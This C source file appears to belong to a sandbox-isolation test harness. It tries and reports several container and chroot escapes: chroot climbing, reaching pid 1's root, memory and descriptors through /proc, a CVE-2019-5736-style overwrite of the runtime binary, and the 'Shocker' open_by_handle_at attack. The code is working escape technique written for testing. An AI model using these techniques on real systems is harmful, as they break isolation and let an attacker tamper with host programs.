/* Out of the root: by chroot, by what pid 1 holds, by descriptors, by handles. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attacker.h"

/* Whether / can be listed, and is another directory than it was. */
static int is_outside(const struct stat *before)
{
	struct stat now;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		return -errno;
	if (fstat(fd, &now) < 0)
		return -errno;
	return now.st_dev == before->st_dev && now.st_ino == before->st_ino ? -EXDEV : 0;
}

/* A root below the working directory does not hold it: chdir("..") never meets a root to stop at. */
static int climb(const char *keep_descriptor)
{
	struct stat before;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0 || fstat(fd, &before) < 0)
		return -errno;
	if (mkdir("/tmp/climb", 0700) < 0 && errno != EEXIST)
		return -errno;
	if (keep_descriptor && (chdir("/tmp/climb") < 0))
		return -errno;
	if (chroot(keep_descriptor ? "." : "/tmp/climb") < 0)
		return -errno;
	if (keep_descriptor && fchdir(fd) < 0)
		return -errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -errno;
	if (chroot(".") < 0)
		return -errno;
	return is_outside(&before);
}

/* Without changing the root again: names relative to a working directory above it. */
static int climb_by_name(const char *arg)
{
	char path[64 * 3 + 2] = "";
	struct stat before, now;
	int fd;

	(void)arg;
	if (stat("/", &before) < 0 || (mkdir("/tmp/climb", 0700) < 0 && errno != EEXIST))
		return -errno;
	if (chroot("/tmp/climb") < 0)
		return -errno;
	for (int i = 0; i < 64; i++)
		strcat(path, "../");
	fd = open(path, O_RDONLY | O_DIRECTORY);
	if (fd < 0 || fstat(fd, &now) < 0)
		return -errno;
	return now.st_dev == before.st_dev && now.st_ino == before.st_ino ? -EXDEV : 0;
}

static void chroot_climb(char **args)
{
	(void)args;
	attempt("chroot, ascend, chroot", climb, NULL);
	attempt("chroot, return by descriptor, ascend, chroot", climb, "descriptor");
	attempt("chroot, ascend by name", climb_by_name, NULL);
}

static int open_read(const char *path)
{
	return try_open(path, O_RDONLY);
}

static int open_write(const char *path)
{
	return try_open(path, O_RDWR);
}

static int list(const char *path)
{
	return try_open(path, O_RDONLY | O_DIRECTORY);
}

/* To see numbers is harmless; to follow one of them is not. */
static int follow_any(const char *path)
{
	DIR *dir = opendir(path);
	struct dirent *e;
	char to[4096];
	int err = -ENODATA;

	if (!dir)
		return -errno;
	while ((e = readdir(dir)) && err < 0)
		if (e->d_name[0] != '.')
			err = outcome(readlinkat(dirfd(dir), e->d_name, to, sizeof(to)));
	closedir(dir);
	return err;
}

static int read_some(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, &byte, 1);
	return n < 0 ? -errno : n == 0 ? -ENODATA : 0;
}

static int read_link(const char *path)
{
	char to[4096];

	return outcome(readlink(path, to, sizeof(to)));
}

static int execute(const char *path)
{
	char *argv[] = { (char *)"self", NULL };

	execv(path, argv);
	return -errno;
}

static const struct {
	const char *name, *path;
	attempt_fn run;
} ways[] = {
	{ "root of pid 1", "root/", list },
	{ "working directory of pid 1", "cwd/", list },
	{ "file through the root of pid 1", "root/etc/passwd", open_read },
	{ "descriptors of pid 1", "fd", follow_any },
	{ "details of descriptors of pid 1", "fdinfo", list },
	{ "mapped files of pid 1", "map_files", follow_any },
	{ "namespace of pid 1", "ns/mnt", read_link },
	{ "namespace of pid 1 by descriptor", "ns/mnt", open_read },
	{ "environment of pid 1", "environ", read_some },
	{ "memory map of pid 1", "maps", read_some },
	{ "memory of pid 1", "mem", open_write },
	{ "auxiliary vector of pid 1", "auxv", read_some },
	{ "stack of pid 1", "stack", read_some },
	{ "mounts of pid 1", "mountinfo", read_some },
};

/* Of pid 1, or of the process given. */
static void proc_root(char **args)
{
	char path[300];

	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", args[0] ? args[0] : "1", ways[i].path);
		attempt(ways[i].name, ways[i].run, path);
	}
	/* that the ways are real */
	attempt("own root", list, "/proc/self/root/");
	attempt("own descriptors", follow_any, "/proc/self/fd");
	attempt("own namespace", read_link, "/proc/self/ns/mnt");
	attempt("own memory", open_write, "/proc/self/mem");
}

static void proc_exe(char **args)
{
	(void)args;
	attempt("read the program of pid 1", open_read, "/proc/1/exe");
	attempt("write the program of pid 1", open_write, "/proc/1/exe");
	attempt("name of the program of pid 1", read_link, "/proc/1/exe");
	attempt("execute the program of pid 1", execute, "/proc/1/exe");
	attempt("write the own program while it runs", open_write, "/proc/self/exe");
}

static int foreign_program(int *held)
{
	DIR *proc = opendir("/proc");
	struct dirent *e;
	struct stat mine, theirs;
	char path[300];

	if (!proc || stat("/proc/self/exe", &mine) < 0)
		return -errno;
	while ((e = readdir(proc))) {
		if (atoi(e->d_name) < 2)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		if (stat(path, &theirs) < 0 || (theirs.st_dev == mine.st_dev && theirs.st_ino == mine.st_ino))
			continue;
		*held = open(path, O_RDONLY | O_CLOEXEC);
		if (*held < 0)
			continue;
		closedir(proc);
		return 0;
	}
	closedir(proc);
	return -ESRCH;
}

/* CVE-2019-5736: waits for somebody to execute /proc/self/exe, holds what that is, and writes to it as soon as it may. */
static int overwrite(const char *arg)
{
	char path[64];
	int held = -1, fd;

	(void)arg;
	for (long i = 0; foreign_program(&held) < 0; i++)
		if (i == 20000)
			return -ESRCH;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (long i = 0; i < 20000; i++) {
		fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd >= 0)
			return write(fd, "x", 1) < 0 ? -errno : 0;
		if (errno != ETXTBSY)
			return -errno;
	}
	return -ETXTBSY;
}

static void exe_overwrite(char **args)
{
	(void)args;
	puts("ready\t0");
	attempt("write a program that somebody else executes", overwrite, NULL);
}

static int any_descriptor(const char *arg)
{
	struct stat st;

	(void)arg;
	/* 3 and 4 are the attempt's own pipe */
	for (int fd = 3; fd < 4096; fd++)
		if (fstat(fd, &st) == 0 && !S_ISFIFO(st.st_mode))
			return 0;
	return -EBADF;
}

static int standard_directory(const char *arg)
{
	(void)arg;
	for (int fd = 0; fd < 3; fd++)
		if (openat(fd, "..", O_PATH) >= 0)
			return 0;
	return -ENOTDIR;
}

static int working_directory(const char *arg)
{
	char path[4096];

	(void)arg;
	if (syscall(SYS_getcwd, path, sizeof(path)) < 0)
		return -errno;
	return path[0] == '/' ? -ENOENT : 0;
}

static void descriptors(char **args)
{
	(void)args;
	attempt("a descriptor beyond the standard streams", any_descriptor, NULL);
	attempt("a directory as a standard stream", standard_directory, NULL);
	attempt("a working directory outside", working_directory, NULL);
}

struct handle {
	struct file_handle head;
	unsigned char bytes[MAX_HANDLE_SZ];
};

/* "Shocker": inode 2 is the root of most file systems. */
static int handle_of_root(const char *path)
{
	struct handle h = { .head = { .handle_bytes = 8, .handle_type = 1 }, .bytes = { 2 } };
	int mount = open(path, O_RDONLY);

	if (mount < 0)
		return -errno;
	return outcome(syscall(SYS_open_by_handle_at, mount, &h, O_RDONLY));
}

static int handle_bad(const char *arg)
{
	(void)arg;
	return outcome(syscall(SYS_open_by_handle_at, -1, NULL, O_RDONLY));
}

static void handles(char **args)
{
	(void)args;
	attempt("open inode 2 by handle", handle_of_root, "/");
	attempt("open inode 2 by handle on a bind", handle_of_root, "/bind");
	attempt("open by a handle that is none", handle_bad, NULL);
}

const struct idea root_ideas[] = {
	{ "chroot-climb", chroot_climb }, { "proc-root", proc_root }, { "proc-exe", proc_exe },
	{ "exe-overwrite", exe_overwrite }, { "descriptors", descriptors }, { "handles", handles },
	{ NULL, NULL },
};
